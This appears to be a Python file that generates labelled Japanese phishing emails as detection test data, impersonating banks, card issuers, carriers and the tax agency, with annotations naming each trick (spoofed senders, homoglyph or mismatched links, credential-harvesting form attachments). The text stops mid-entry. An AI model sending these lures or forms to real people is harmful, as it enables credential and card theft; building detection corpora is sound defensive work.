# Phishing mails (all URLs / domains below except brand footers are invented).
import base64
import core, lib
from phtpl import P, spoof, own, zw, strip
from core import B

SPECS = []
A = SPECS.append

# ---------------------------------------------------------------- Amazon
A(P('amazon-prime-payment-fail-shown-official-url', 'amazon', '【重要】Amazonプライム会費のお支払いに問題があります',
    'プライム会費のお支払い方法を更新してください',
    ['お客様のAmazonプライム会員の年会費（5,900円）のお支払いに使用されたクレジットカードが承認されませんでした。',
     '2026年1月31日までにお支払い方法を更新いただけない場合、プライム特典はご利用いただけなくなります。'],
    'お支払い方法を更新する', 'https://amazon-co-jp.prime-kaihi-update.top/ap/signin?ref=pm_upd',
    t={'pixel'}, shown='https://www.amazon.co.jp/gp/css/account/cards/view.html', pre='プライム会費の請求に失敗しました。',
    fn='Amazon.co.jp', fa='account-update@amazon.co.jp', recv=spoof('prime-kaihi-update.top', '203.0.113.44'), text=True,
    tr='link text shows www.amazon.co.jp while href goes to amazon-co-jp.prime-kaihi-update.top; From spoofs amazon.co.jp (DMARC fail); preheader; tracking pixel',
    logo='https://m.media-amazon.com/images/G/09/x-locale/common/amazon_logo.png'))

A(P('amazon-account-locked-cyrillic-homoglyph', 'amazon', 'Amazon アカウントがロックされました（お問い合わせ番号：JP-3320-8871）',
    'アカウントの一時停止について',
    ['お客様のアカウントで通常とは異なるサインインが検出されたため、安全のためアカウントを一時的にロックしました。',
     'ロックを解除するには、24時間以内に下記よりご本人確認を完了してください。期限を過ぎるとアカウントは永久に閉鎖されます。'],
    'ロックを解除する', 'https://' + lib.punycode_host('аmazon', '.co.jp-signin.icu') + '/ap/verify',
    shown='https://www.аmazon.co.jp/ap/verify', fn='Аmazon.co.jp', fa='no-reply@xn--amzon-co-26g.jp', enc='u8q',
    recv=('gmail', 'xn--amzon-co-26g.jp', '198.51.100.23', 'vps-2231.example-host.net', 'pass', None, 'none'),
    tr='Cyrillic а homoglyph in displayed URL, display name and punycode sender domain xn--amzon-co-26g.jp; href is punycode host xn--mazon-...; urgency 24h; DMARC none on look-alike',
    x=dict(unsure=False)))

A(P('amazon-order-cancel-map-area-b64logo', 'amazon', 'ご注文の確認：#503-8817264-2291045（iPhone 16 Pro 256GB）',
    'ご注文ありがとうございます',
    ['以下のご注文を承りました。お心当たりのない場合は、48時間以内に注文をキャンセルしてください。'],
    '注文をキャンセルする', 'http://203.0.113.87/amzn/cancel.php?o=503-8817264-2291045',
    t={'map', 'b64logo'}, kvs=[('注文番号', '503-8817264-2291045'), ('商品', 'Apple iPhone 16 Pro 256GB ナチュラルチタニウム'), ('合計', '￥159,800'), ('お届け先', '大阪府大阪市北区梅田3-1-1')],
    fn='Amazon.co.jp', fa='auto-confirm@amazon.co.jp', recv=spoof('mx7.kouhou-tsuhan.jp', '203.0.113.87', kind='isp'), enc='u8b',
    tr='fake order confirmation (order-cancel lure); image-map <area> href to raw IP URL; logo as data: base64 PNG; From spoofs auto-confirm@amazon.co.jp'))

A(P('amazon-short-sms-style-plain', 'amazon', 'Amazonアカウント停止のお知らせ', '', [], '', '', fn='Amazon', fa='info@amazn-jp-support.cn',
    recv=own('amazn-jp-support.cn', '198.51.100.71'), enc='u88',
    tr='very short text/plain; look-alike sender domain; bare URL', x=dict(html=None, st='plain',
    text='【Amazon】お支払い情報に問題があるため、アカウントを停止しました。\nhttps://amazn-jp-support.cn/a\n')))

A(P('amazon-gift-card-attachment-html-form', 'amazon', '【Amazon】ギフトカード残高の有効期限について（重要）',
    'ギフトカード残高が失効します',
    ['お客様のアカウントに残っているAmazonギフトカード残高 12,450円 が、まもなく有効期限を迎えます。',
     '残高を保持するには、添付ファイル「Amazon_本人確認.html」を開き、画面の案内に従ってご本人確認をお願いいたします。'],
    '', '', t={'nobtn'}, fn='Amazon.co.jp', fa='gc-orders@amazon-giftcard-jp.shop', recv=own('amazon-giftcard-jp.shop', '198.51.100.12'),
    enc='u8b', tr='HTML attachment containing a login form posting to invented host; no link in body; look-alike sender',
    x=dict(att=[('Amazon_本人確認.html', 'text/html', ('<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazon サインイン</title>'
        '<style>body{font-family:Arial,sans-serif;background:#fff}.box{width:350px;margin:40px auto;border:1px solid #ddd;border-radius:8px;padding:20px}</style></head>'
        '<body><div class="box"><img src="https://m.media-amazon.com/images/G/09/gno/sprites/nav-sprite-global-1x.png" alt="amazon"><h1>サインイン</h1>'
        '<form action="https://gc-verify.amazon-giftcard-jp.shop/post.php" method="POST">Eメールまたは携帯電話番号<input name="email"><br>パスワード<input type="password" name="pass"><br>'
        'カード番号<input name="cc"><br>有効期限<input name="exp"> セキュリティコード<input name="cvv"><br><button type="submit">次へ</button></form></div></body></html>').encode('utf-8'))])))

# ---------------------------------------------------------------- 三井住友カード / Vpass
A(P('smbc-vpass-card-suspended-jis-shown', 'smbc', '【三井住友カード】ご利用確認のお願い（カードのご利用を一時制限しております）',
    '【重要】カードご利用の一時制限について',
    ['お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知したため、カードのご利用を一時的に制限させていただいております。',
     'お手数ですが、下記よりVpassにログインのうえ、ご利用内容の確認をお願いいたします。ご確認いただけない場合、カードのご利用制限が継続されることがございます。'],
    'Vpassにログインする', 'https://vpass-smbc-card.jp-riyou-kakunin.com/vpass/login', shown='https://www.smbc-card.com/mem/index.jsp',
    fn='三井住友カード', fa='info@smbc-card.com', recv=spoof('jp-riyou-kakunin.com', '203.0.113.9'), enc='jis', text=True,
    tr='link text shows www.smbc-card.com, href to vpass-smbc-card.jp-riyou-kakunin.com; spoofed From; ISO-2022-JP HTML+text',
    x=dict(scs='ISO-2022-JP')))

A(P('smbc-card-info-update-form-action', 'smbc', '三井住友カード会員様 お客様情報の確認', 'お客様情報の更新のお願い',
    ['犯罪収益移転防止法に基づき、定期的にお客様情報の確認をお願いしております。以下のフォームにご入力のうえ送信してください。'],
    '確認して送信', 'https://smbc-card.kaiin-joho.xyz/submit', t={'form'}, fn='三井住友カード', fa='vpass@smbc-card-info.xyz',
    recv=own('smbc-card-info.xyz', '198.51.100.200'), enc='u8q',
    tr='<form action> with ID/password/birthdate fields embedded in mail body; legal pretext 犯罪収益移転防止法; look-alike sender'))

A(P('smbc-vpass-zero-width-subject', 'smbc', zw('三井住友カード') + '　重要なお知らせ', 'ご利用確認のお願い',
    ['【' + zw('三井住友カード') + '】をご利用いただきありがとうございます。',
     'お客様のカードで高額なご利用（ルイ・ヴィトン オンラインストア 328,000円）がありました。お心当たりがない場合は至急ご確認ください。'],
    'ご利用内容を確認', 'https://smbcc.vpasss-login.sbs/ja/', t={'hidden'}, greet='', fn=zw('三井住友カード'), fa='support@vpasss-login.sbs',
    recv=own('vpasss-login.sbs', '198.51.100.33', kind='m365', dmarc='none'), enc='u8b',
    tr='zero-width spaces (U+200B) inside brand name in subject, From display name and body; hidden filler text spans; M365 trace'))

# ---------------------------------------------------------------- JCB
A(P('jcb-myjcb-usage-stop-sjis', 'jcb', '【MyJCB】カードご利用停止のお知らせ', 'MyJCB 重要なお知らせ',
    ['平素はJCBカードをご利用いただき、誠にありがとうございます。',
     'お客様のカードにつきまして、不正利用の疑いがある取引を確認したため、ご利用を一時停止いたしました。',
     '下記URLより、本人確認手続きを行ってください。'],
    '本人確認を行う', 'https://my-jcb-login.co-jp-id.top/iss-pc/member/user_manage/', greet='', shown='https://my.jcb.co.jp/iss-pc/member/user_manage/',
    fn='MyJCB', fa='mail@qa.jcb.co.jp', recv=spoof('co-jp-id.top', '203.0.113.130', kind='isp'), enc='sjis', text=True, hcs='Shift_JIS',
    tr='Shift_JIS 8bit; link text my.jcb.co.jp vs href my-jcb-login.co-jp-id.top; spoofed From (DMARC fail); ISP trace'))

A(P('jcb-point-expire-onclick-button', 'jcb', 'Oki Dokiポイント失効のお知らせ【JCB】', 'ポイントの有効期限が近づいています',
    ['お客様が保有するOki Dokiポイント 1,830ポイントが、2025年12月31日に失効いたします。',
     'ポイントを交換するには、下記ボタンからMyJCBにログインしてください。'],
    'ポイントを交換する', 'https://okidoki-jcb.point-koukan.cc/login', t={'onclick', 'pixel'}, fn='JCBカード', fa='okidoki@point-koukan.cc',
    recv=own('point-koukan.cc', '198.51.100.54'), enc='u8b', tr='link only inside <button onclick="window.location.href=...">; tracking pixel; points-expiry lure'))

# ---------------------------------------------------------------- えきねっと
A(P('ekinet-account-expire-jis-cp932', 'ekinet', '【えきねっと】自動退会処理についてのお知らせ', 'えきねっと会員の自動退会について',
    ['えきねっとをご利用いただき、ありがとうございます。',
     'えきねっとでは、最終ログインから①一定期間ご利用のないお客様②メールアドレスの確認が取れないお客様、について自動退会の処理を行っております。',
     'お客様のアカウントは2025年2月14日に退会処理の対象となります。継続してご利用の場合は、下記よりログインしてください。'],
    'えきねっとにログイン', 'https://www.eki-net.com.member-kakunin.cn/Personal/member/', greet='', fn='えきねっと', fa='info@eki-net.com',
    recv=spoof('member-kakunin.cn', '203.0.113.51'), enc='jis', text=True,
    tr='brand domain as left-most labels eki-net.com.member-kakunin.cn; ISO-2022-JP with CP932 NEC chars ①②; spoofed From'))

A(P('ekinet-point-jre-meta-refresh', 'ekinet', 'JRE POINT 失効予定のお知らせ（えきねっと）', 'JRE POINTが失効します',
    ['お客様のJRE POINT 3,200ポイントが今月末で失効予定です。えきねっとにログインして失効を回避してください。'],
    'ログインして確認', 'https://jre-point.ekinet-login.icu/', t={'refresh'}, fn='えきねっと', fa='noreply@ekinet-login.icu',
    recv=own('ekinet-login.icu', '198.51.100.9'), enc='u8b', tr='<meta http-equiv=refresh> auto-redirect in HTML head; look-alike sender'))

# ---------------------------------------------------------------- ETC
A(P('etc-meisai-service-invalid-eucjp', 'etc', 'ETC利用照会サービス　重要なお知らせ', 'ETCサービスは無効になりました',
    ['ETCサービスをご利用いただきありがとうございます。',
     'お客様のETCカードは、更新手続きが完了していないため、ETCサービスは無効になりました。引き続きサービスをご利用いただきたい場合は、下記リンクより詳細をご確認ください。',
     '※詳細確認期限：3日以内'],
    '詳細を確認', 'https://etc-meisai.jp.service-koushin.top/etc/R;jsessionid=1', greet='', shown='https://www.etc-meisai.jp/',
    fn='ETC利用照会サービス', fa='info@etc-meisai.jp', recv=spoof('service-koushin.top', '203.0.113.98'), enc='euc', text=True,
    tr='EUC-JP 8bit; current ETC campaign wording; brand domain prefix etc-meisai.jp.service-koushin.top; spoofed From'))

A(P('etc-card-expire-ip-url-plain', 'etc', '【ETC】ご利用料金未払いのお知らせ', '', [], '', '', fn='ETCサービス', fa='etc-info@kousoku-ryokin.net',
    recv=own('kousoku-ryokin.net', '198.51.100.145'), enc='sjis',
    tr='text/plain Shift_JIS; raw IP URL; unpaid toll lure; look-alike sender', x=dict(html=None, st='plain',
    text='ETCサービスをご利用いただきありがとうございます。\n\nお客様の高速道路利用料金（2,980円）のお支払いが確認できておりません。\n本日中にお支払いがない場合、ETCカードは利用停止となり、延滞金が発生します。\n\nお支払い手続き：\nhttp://198.51.100.145/etc/pay/?id=88120\n\nETC利用照会サービス事務局\n')))

# ---------------------------------------------------------------- イオン
A(P('aeon-card-usage-confirm-at-userinfo', 'aeon', '【イオンカード】ご利用確認のお願い', '【重要】ご利用確認のお願い',
    ['イオンカードをご利用いただき、誠にありがとうございます。',
     'お客様のカードについて、第三者による不正利用の可能性がある取引を確認いたしました。お客様の安全を守るため、カードのご利用を一部制限しております。',
     '暮らしのマネーサイトにログインし、ご利用内容をご確認ください。'],
    '暮らしのマネーサイトへ', 'https://www.aeon.co.jp@aeon-kurashi.money-site.vip/login', greet='', shown='https://www.aeon.co.jp/login',
    fn='イオンカード', fa='aeoncard@aeon.co.jp', recv=spoof('money-site.vip', '203.0.113.62'), enc='u8b', text=True,
    tr='userinfo trick https://www.aeon.co.jp@aeon-kurashi.money-site.vip/ ; link text official URL; spoofed From'))

A(P('aeon-waon-point-cid-logo-related', 'aeon', 'WAON POINT 大量失効のお知らせ', 'WAON POINTが失効します',
    ['お客様の保有するWAON POINT 4,520ポイントが 2025年10月31日 で失効します。下記よりご確認いただき、ポイントの延長手続きをお願いします。'],
    'ポイントを延長する', 'https://waon-point.aeon-jp.life/ext', t={'cidlogo'}, fn='イオン', fa='waon@aeon-jp.life',
    recv=own('aeon-jp.life', '198.51.100.199'), enc='u8b', tr='multipart/related with cid: logo image; look-alike sender aeon-jp.life'))

# ---------------------------------------------------------------- 楽天
A(P('rakuten-account-lock-google-redirect', 'rakuten', '【楽天市場】楽天会員情報の確認について', '楽天会員情報の確認',
    ['楽天会員のお客様へ', 'お客様のアカウントで異常なログインが検出されたため、楽天IDを一時的にロックしました。ロックを解除するには、以下のリンクから会員情報を確認してください。'],
    'ロックを解除する', 'https://www.google.com/url?q=https%3A%2F%2Frakuten-id.kaijo-center.top%2Flogin&sa=D&usg=AOvVaw0x', greet='',
    fn='楽天市場', fa='info@rakuten.co.jp', recv=spoof('kaijo-center.top', '203.0.113.200', kind='m365'), enc='u8q', text=True,
    tr='open-redirect style link via google.com/url?q= to invented host; spoofed From; quoted-printable'))

A(P('rakuten-card-statement-fullwidth-url', 'rcard', '【楽天カード】ご請求金額確定のお知らせ（重要）', 'ご請求金額確定のお知らせ',
    ['楽天カードをご利用いただきありがとうございます。', '今月のご請求金額が確定いたしました。お支払い口座の残高不足により、引き落としができませんでした。至急、楽天e-NAVIにてお支払い手続きを行ってください。'],
    'e-NAVIでお支払い', 'https://rakuten-card.enavi-pay.xyz/e-navi/', greet='', shown='ｈｔｔｐｓ：／／ｗｗｗ．ｒａｋｕｔｅｎ－ｃａｒｄ．ｃｏ．ｊｐ／ｅ－ｎａｖｉ／',
    fn='楽天カード株式会社', fa='info@mail.rakuten-card.co.jp', recv=spoof('enavi-pay.xyz', '203.0.113.17'), enc='sjisb', hcs='Shift_JIS',
    tr='full-width characters in displayed URL; href to enavi-pay.xyz; Shift_JIS base64; spoofed From'))

# ---------------------------------------------------------------- PayPay
A(P('paypay-balance-expire-dataurl', 'paypay', '【PayPay】ご本人様確認のお願い', 'PayPayアカウントの本人確認',
    ['PayPayをご利用いただきありがとうございます。', 'お客様のアカウントで不審な決済が確認されたため、一部機能を制限しています。以下から本人確認を完了してください。'],
    '本人確認をする', 'https://paypay-ne-jp.kyc-center.top/verify', t={'dataurl'}, greet='', fn='PayPay', fa='no-reply@paypay-kyc.top',
    recv=own('paypay-kyc.top', '198.51.100.77'), enc='u8b', tr='button href is a data:text/html;base64 URL which meta-refreshes to invented host'))

A(P('paypay-cashback-campaign-short', 'paypay', 'PayPayポイント 5,000円分プレゼント当選のお知らせ', '', [], '', '', fn='PayPay キャンペーン事務局', fa='campaign@paypay-present.shop',
    recv=own('paypay-present.shop', '198.51.100.78'), enc='u88',
    tr='very short HTML-only mail; prize lure; single link; invented domain', x=dict(st='html',
    html='<html><body><p>おめでとうございます！<br>PayPayポイント5,000円分に当選しました。<br><a href="https://paypay-present.shop/get?u=7731">受け取る</a>（本日23:59まで）</p></body></html>\n')))

# ---------------------------------------------------------------- メルカリ
A(P('mercari-sales-proceeds-expire-map', 'mercari', '【メルカリ】売上金の振込申請期限が迫っています', '売上金の振込申請期限のお知らせ',
    ['メルカリをご利用いただきありがとうございます。', 'お客様の売上金 18,640円 の振込申請期限が近づいています。期限までに申請がない場合、売上金は失効します。'],
    '振込申請をする', 'https://jp-mercari.uriage-shinsei.com/mypage/sales', t={'map', 'pixel'}, greet='', fn='メルカリ', fa='no-reply@mercari.jp',
    recv=spoof('uriage-shinsei.com', '203.0.113.140'), enc='u8b', tr='image-map area link; tracking pixel; spoofed no-reply@mercari.jp'))

A(P('mercari-account-restrict-euc-b64', 'mercari', 'メルカリ 利用制限のお知らせ', 'アカウントの利用制限について',
    ['お客様のアカウントは、利用規約に違反する取引の疑いがあるため、利用制限の対象となっています。', '異議申し立ては以下から72時間以内に行ってください。'],
    '異議申し立てをする', 'https://mercari-support.appeal-jp.net/form', fn='メルカリ事務局', fa='support@appeal-jp.net',
    recv=own('appeal-jp.net', '198.51.100.19', kind='isp'), enc='eucb', hcs='EUC-JP', text=True, tr='EUC-JP base64 multipart/alternative; appeal lure'))

# ---------------------------------------------------------------- au
A(P('au-id-payment-stop-jis-rawfrom', 'au', 'au PAY ご利用停止のお知らせ', 'au PAYのご利用を停止しました',
    ['au PAYをご利用いただきありがとうございます。', 'お客様のau IDにおいて、不正アクセスの疑いがあるため、au PAYのご利用を停止しております。', 'お手数ですが下記よりau IDにログインし、ご本人様確認をお願いいたします。'],
    'au IDでログイン', 'https://auone-id.login-kakunin.top/au-pay/', shown='https://id.auone.jp/', greet='', fn='au PAY', fa='aupay@auone-service.top',
    recv=own('auone-service.top', '198.51.100.230'), enc='jis', text=True,
    tr='raw unencoded ISO-2022-JP display name in From header; link text id.auone.jp vs href login-kakunin.top', x=dict(rawjis=True)))

# ---------------------------------------------------------------- docomo
A(P('docomo-d-account-unauthorized-form', 'docomo', '【ドコモ】dアカウントへの不正ログインについて', 'dアカウントの安全確認',
    ['dアカウントに不正なログインの試行がありました。セキュリティ保護のため、以下のフォームで情報を再確認してください。'],
    '送信する', 'https://d-account.docomo-anzen.icu/post', t={'form', 'hidden'}, fn='NTTドコモ', fa='info@docomo-anzen.icu',
    recv=own('docomo-anzen.icu', '198.51.100.60'), enc='u8b', tr='<form action> login in body; hidden filler text; look-alike'))

# ---------------------------------------------------------------- SoftBank
A(P('softbank-bill-unpaid-pdf-attachment', 'softbank', '【SoftBank】ご利用料金のお支払い確認（最終通知）', 'ご利用料金お支払いのお願い',
    ['ソフトバンクをご利用いただきありがとうございます。', 'ご利用料金のお支払いが確認できておりません。詳細は添付の請求書（PDF）をご確認ください。', '期日までにお支払いがない場合、回線を停止させていただきます。'],
    '', '', t={'nobtn'}, fn='ソフトバンク', fa='billing@softbank-seikyu.top', recv=own('softbank-seikyu.top', '198.51.100.61'), enc='u8b', text=True,
    tr='PDF attachment with URI link annotation to invented payment site; no link in body; final-notice pressure',
    x=dict(att=[('SoftBank_seikyusho_202511.pdf', 'application/pdf', lib.pdf_with_link('SoftBank Invoice 2025/11', ['Amount due: JPY 8,976', 'Due date: 2025/11/28', 'Please pay online:'], 'https://softbank-seikyu.top/pay/88132'))])))

# ---------------------------------------------------------------- ゆうちょ
A(P('yucho-direct-torihiki-kakunin-jis', 'yucho', '【ゆうちょ銀行】取引目的等のご確認のお願い', 'お取引目的等のご確認のお願い',
    ['平素はゆうちょ銀行をご利用いただき、誠にありがとうございます。', 'ゆうちょ銀行では、犯罪による収益の移転防止に関する法律に基づき、お客さまのお取引目的等を確認させていただいております。',
     '期限までにご回答いただけない場合、ゆうちょダイレクトのお取引を制限させていただく場合がございます。'],
    '回答する', 'https://jp-bank.japanpost.jp.torihiki-kakunin.cc/direct/', shown='https://www.jp-bank.japanpost.jp/', greet='',
    fn='ゆうちょ銀行', fa='info@jp-bank.japanpost.jp', recv=spoof('torihiki-kakunin.cc', '203.0.113.70', kind='isp'), enc='jis', text=True,
    tr='brand FQDN prefix jp-bank.japanpost.jp.torihiki-kakunin.cc; AML/取引目的 lure; spoofed From; ISO-2022-JP'))

# ---------------------------------------------------------------- 三菱UFJ
A(P('mufg-direct-password-reset-onclick', 'mufg', '【三菱UFJ銀行】《重要》お客さま情報等のご確認について', 'お客さま情報等のご確認',
    ['三菱UFJ銀行をご利用いただきありがとうございます。', '当行では、マネー・ローンダリング防止の観点から、お客さま情報等の定期的な確認を実施しております。三菱UFJダイレクトにログインのうえ、ご回答をお願いいたします。'],
    'ログインして回答', 'https://direct-bk-mufg.kakunin-renraku.top/login', t={'onclick'}, greet='', fn='三菱UFJ銀行', fa='mufg@bk.mufg.jp',
    recv=spoof('kakunin-renraku.top', '203.0.113.150', kind='m365'), enc='u8q', text=True, tr='<button onclick> link; spoofed bk.mufg.jp; M365 trace compauth fail'))

# ---------------------------------------------------------------- みずほ
A(P('mizuho-direct-security-update-sjis-qp', 'mizuho', '【みずほ銀行】セキュリティ強化のためのお客さま情報確認', 'セキュリティ強化のお知らせ',
    ['みずほダイレクトをご利用のお客さまへ', 'セキュリティ強化のため、ワンタイムパスワードの再登録をお願いしております。2025年9月30日までに、下記URLよりお手続きください。'],
    'お手続きはこちら', 'https://mizuho-direct.otp-touroku.com/ib/', greet='', shown='https://web.ib.mizuhobank.co.jp/',
    fn='みずほ銀行', fa='mizuhobank@otp-touroku.com', recv=own('otp-touroku.com', '198.51.100.90'), enc='sjisq', hcs='Shift_JIS', text=True,
    tr='Shift_JIS quoted-printable; OTP re-registration lure; displayed URL web.ib.mizuhobank.co.jp vs invented href'))

# ---------------------------------------------------------------- りそな
A(P('resona-app-account-freeze-zw-url', 'resona', 'りそな銀行　口座凍結のお知らせ', '口座の一時凍結について',
    ['お客様の口座は、不審な取引が確認されたため一時的に凍結されています。', '解除をご希望の場合は、下記よりマイゲートにログインしてください。'],
    'マイゲートにログイン', 'https://resona-mygate.kaijo-tetsuzuki.vip/', shown='https://www.resona' + '\u200b' + 'bank.co.jp/mygate/', fn='りそな銀行',
    fa='resona@kaijo-tetsuzuki.vip', recv=own('kaijo-tetsuzuki.vip', '198.51.100.91'), enc='u8b', tr='zero-width space inside displayed official URL; account-freeze lure'))

# ---------------------------------------------------------------- 証券
LONG_TERMS = ''.join('<p style="margin:0 0 10px;font-size:12px;color:#666">第%d条（%s）当社は、お客様の口座の安全性を確保するため、%s</p>\n' % (i, t, '取引パスワード、ログインパスワード及び登録情報の確認を定期的に実施いたします。お客様は当社の定める方法により、速やかにこれに応じるものとします。' * 2)
                     for i, t in enumerate(['目的', '本人確認', '登録情報の変更', '取引の制限', '口座の凍結', '損害の免責', '個人情報の取扱い', '規定の変更', '準拠法', '管轄裁判所', '反社会的勢力の排除', '通知の方法'], 1))
A(P('sbi-sec-trading-password-long-terms', 'sbi', '【SBI証券】重要：取引パスワード再設定のお願い（不正アクセス対策）', '【重要】取引パスワード再設定のお願い',
    ['SBI証券をご利用いただきありがとうございます。', '昨今、証券口座への不正アクセスおよび不正取引が多発しております。当社ではお客様の資産を守るため、全てのお客様に取引パスワードの再設定をお願いしております。',
     '2025年5月16日までに再設定が完了していないお客様は、お取引を制限させていただきます。'],
    '取引パスワードを再設定', 'https://site1.sbisec.co.jp.pw-reset-sbi.top/ETGate/', greet='', shown='https://site1.sbisec.co.jp/ETGate/',
    after='<div style="border-top:1px solid #ddd;margin-top:16px;padding-top:12px">' + LONG_TERMS * 3 + '</div>',
    fn='SBI証券', fa='info@sbisec.co.jp', recv=spoof('pw-reset-sbi.top', '203.0.113.31'), enc='u8b', text=True, year=2025,
    tr='very long HTML (copied terms repeated); 2025 brokerage account-takeover campaign; brand FQDN prefix site1.sbisec.co.jp.pw-reset-sbi.top; spoofed From'))

A(P('nomura-sec-security-cp932-split-subject', 'nomura', '【野村證券】お客様の口座情報の確認について（至急ご対応ください）', 'お客様情報確認のお願い',
    ['野村證券をご利用いただき誠にありがとうございます。', '第三者による不正ログインが確認されたため、お客様の口座を保護する目的で一部機能を制限しております。', '野村證券オンラインサービスにて、ご本人確認を行ってください。'],
    'ログイン', 'https://nomura-online.kouza-hogo.com/hometrade/', greet='', fn='野村證券', fa='support@nomura-security.jp.net',
    recv=own('nomura-security.jp.net', '198.51.100.101', kind='m365'), enc='cp932', text=True, hcs='Shift_JIS',
    tr='CP932 8bit with charset label windows-31j; subject encoded-words split mid-character (Shift_JIS bytes); look-alike sender',
    x=dict(scs='Shift_JIS', split=21)))

A(P('rakuten-sec-login-notice-html-charset-mismatch', 'rsec', '【楽天証券】ログイン通知（新しい端末からのアクセス）', '新しい端末からのログインがありました',
    ['お客様の楽天証券口座に、新しい端末からのログインがありました。', '日時：2025/06/03 02:14<br />場所：中国 上海<br />端末：Windows / Chrome',
     'お客様ご本人によるログインでない場合は、至急パスワードを変更してください。'],
    'パスワードを変更する', 'https://member.rakuten-sec.co-jp.pw-change.sbs/', greet='', fn='楽天証券', fa='info@rakuten-sec.net-secure.sbs',
    recv=own('rakuten-sec.net-secure.sbs', '198.51.100.102'), enc='u8b', hcs='Shift_JIS',
    tr='HTML <meta charset> says Shift_JIS while MIME part is UTF-8; fake login notification; look-alike sender'))

A(P('monex-account-verify-onclick-crlf', 'monex', 'マネックス証券　お客様情報の再確認について', 'お客様情報再確認のお願い',
    ['マネックス証券をご利用いただきありがとうございます。', '金融庁の要請に基づき、全てのお客様に登録情報の再確認をお願いしています。', '未確認の場合、出金・売却のお取引ができなくなります。'],
    '情報を確認する', 'https://monex-kakunin.fsa-youse.top/login', t={'onclick', 'hidden'}, greet='', fn='マネックス証券', fa='monex@monex.co.jp',
    recv=spoof('fsa-youse.top', '203.0.113.110', kind='m365'), enc='u8b', text=True,
    tr='button onclick link; hidden filler text; authority pretext (金融庁); CRLF line endings; spoofed From', x=dict(crlf=True)))

# ---------------------------------------------------------------- セゾン / エポス
A(P('saison-netanswer-card-stop-jis-q', 'saison', '【セゾンカード】カードご利用制限のお知らせ', 'カードのご利用制限について',
    ['いつもセゾンカードをご利用いただき、ありがとうございます。', 'お客様のカードに不正利用の疑いがあるため、ご利用を制限しております。Netアンサーにログインしてご利用状況をご確認ください。'],
    'Netアンサーにログイン', 'https://netanswer.saisoncard.co.jp.riyou-seigen.xyz/', greet='', shown='https://netanswer.saisoncard.co.jp/',
    fn='セゾンカード', fa='info@saisoncard.co.jp', recv=spoof('riyou-seigen.xyz', '203.0.113.121', kind='isp'), enc='jis', text=True,
    tr='ISO-2022-JP; subject Q-encoded; brand FQDN prefix; spoofed From', x=dict(sj='Q')))

A(P('epos-net-members-form-pixel', 'epos', '【エポスカード】ご利用確認のお願い', 'エポスNetご利用確認',
    ['エポスカードをご利用いただきありがとうございます。', 'お客様のカードにつきまして、ご本人様のご利用かどうか確認させていただきたいお取引がございます。下記フォームよりエポスNetにログインしてください。'],
    'ログイン', 'https://eposnet-login.card-riyou.cc/login.php', t={'form', 'pixel'}, greet='', fn='エポスカード', fa='epos@card-riyou.cc',
    recv=own('card-riyou.cc', '198.51.100.130'), enc='u8q', tr='<form action> in body; tracking pixel; look-alike sender'))

# ---------------------------------------------------------------- 物流
A(P('yamato-absent-redelivery-short-plain', 'yamato', 'ヤマト運輸　お荷物お届けのお知らせ', '', [], '', '', fn='ヤマト運輸', fa='yamato@delivery-saihaitatsu.top',
    recv=own('delivery-saihaitatsu.top', '198.51.100.140'), enc='u88', tr='very short SMS-style plain text; redelivery lure; invented shortener-like host',
    x=dict(html=None, st='plain', text='お客様宛にお荷物のお届けにあがりましたが不在の為持ち帰りました。下記よりご確認ください。\nhttps://ymt-jp.delivery-saihaitatsu.top/?id=73018\n')))

A(P('yamato-address-confirm-zip-password', 'yamato', '【ヤマト運輸】お届け先住所確認のお願い（伝票番号 4821-7719-0052）', 'お届け先住所の確認',
    ['いつもヤマト運輸をご利用いただきありがとうございます。', 'お客様宛のお荷物について、住所不備のためお届けができておりません。', '添付の「住所確認票」（パスワード付きZIP）をご確認のうえ、ご対応をお願いいたします。<br />解凍パスワード：<b>4821</b>'],
    '', '', t={'nobtn'}, greet='', fn='ヤマト運輸株式会社', fa='info@kuroneko-otodoke.com', recv=own('kuroneko-otodoke.com', '198.51.100.141', kind='isp'), enc='jis', text=True,
    tr='password-protected ZIP attachment (ZipCrypto) with HTML login inside; password in body; ISO-2022-JP',
    x=dict(att=[('jusho_kakunin.zip', 'application/zip', lib.zipcrypto_zip('住所確認票.html', '<html><meta charset="utf-8"><body><form action="https://kuroneko-otodoke.com/addr.php" method="post">お名前<input name="n">電話番号<input name="t">クレジットカード番号<input name="c"><button>送信</button></form></body></html>'.encode(), '4821'))])))

A(P('sagawa-delivery-fee-unpaid-sjis', 'sagawa', '【佐川急便】お荷物の配送料金未払いのお知らせ', 'お届け予定のお荷物について',
    ['佐川急便をご利用いただきありがとうございます。', 'お客様宛のお荷物について、関税および追加の配送料金（330円）のお支払いが必要です。下記よりお支払い手続きを完了してください。'],
    'お支払いはこちら', 'https://sagawa-exp.haisou-ryokin.icu/pay', greet='', shown='https://k2k.sagawa-exp.co.jp/p/sagawa/web/okurijoinput.jsp',
    fn='佐川急便', fa='info@sagawa-exp.co.jp', recv=spoof('haisou-ryokin.icu', '203.0.113.160'), enc='sjisb', text=True,
    tr='small customs fee lure; link text shows k2k.sagawa-exp.co.jp; spoofed From; Shift_JIS base64'))

A(P('japanpost-customs-unpaid-map-crlf', 'jpost', '【日本郵便】お荷物の保管期限のお知らせ', 'お荷物を保管しています',
    ['日本郵便をご利用いただきありがとうございます。', 'ご不在のため、お荷物をお持ち帰りしました。保管期限は7日間です。再配達のお申し込みは下記から行ってください。'],
    '再配達のお申込み', 'https://japanpost-redelivery.jp-post.sbs/re/', t={'map'}, greet='', fn='日本郵便', fa='no-reply@jp-post.sbs',
    recv=own('jp-post.sbs', '198.51.100.150', kind='none'), enc='u8b', tr='image-map area link; no trace headers; CRLF', x=dict(crlf=True, recv=None)))

# ---------------------------------------------------------------- 官公庁
A(P('nta-etax-unpaid-tax-jis-cp932', 'nta', '【国税庁】未納税金のお知らせ（最終催告）', '未納税金のお知らせ',
    ['国税庁からのお知らせです。', 'お客様の令和6年度所得税につきまして、納付期限を過ぎても納付が確認できておりません。', '①納付税額：48,300円　②延滞税：1,450円　③納付期限：令和7年3月31日',
     '期限までに納付されない場合、国税徴収法に基づき財産の差押えを執行いたします。下記よりe-Taxにて納付手続きを行ってください。'],
    '納付手続きへ', 'https://e-tax.nta.go.jp.nouzei-tetsuzuki.cn/', greet='', shown='https://www.e-tax.nta.go.jp/',
    fn='国税庁', fa='info@nta.go.jp', recv=spoof('nouzei-tetsuzuki.cn', '203.0.113.170', kind='isp'), enc='jis', text=True,
